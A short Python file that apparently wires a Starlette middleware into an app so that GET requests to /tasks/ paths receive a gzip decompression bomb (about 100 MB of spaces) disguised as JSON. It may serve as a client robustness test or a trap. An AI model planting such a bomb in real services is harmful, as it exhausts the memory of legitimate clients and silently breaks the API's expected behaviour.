import gzip

from starlette.responses import Response

BOMB = gzip.compress(b" " * 10**8)


def spring(app):
    @app.middleware("http")
    async def answer(request, call_next):
        if request.method != "GET" or not request.url.path.startswith("/tasks/"):
            return await call_next(request)
        return Response(BOMB, headers={"Content-Encoding": "gzip"}, media_type="application/json")
